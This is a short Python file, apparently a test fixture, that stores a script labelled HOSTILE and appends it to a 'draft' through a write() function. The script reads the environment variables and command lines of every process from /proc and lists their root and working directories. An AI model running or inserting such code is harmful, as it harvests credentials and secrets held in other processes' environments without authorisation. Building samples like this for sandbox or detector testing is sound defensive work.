"""Print the environment, the command line and the open files of every process in sight, that of process 1 first."""

HOSTILE = r"""
import glob
import os
for path in sorted(glob.glob("/proc/[0-9]*/environ") + glob.glob("/proc/[0-9]*/cmdline")):
    try:
        print(path, open(path, "rb").read()[:4000])
    except OSError:
        pass
for path in glob.glob("/proc/[0-9]*/root") + glob.glob("/proc/[0-9]*/cwd"):
    try:
        print(path, os.listdir(path))
    except OSError:
        pass
"""


def write(draft):
    draft.last(HOSTILE)
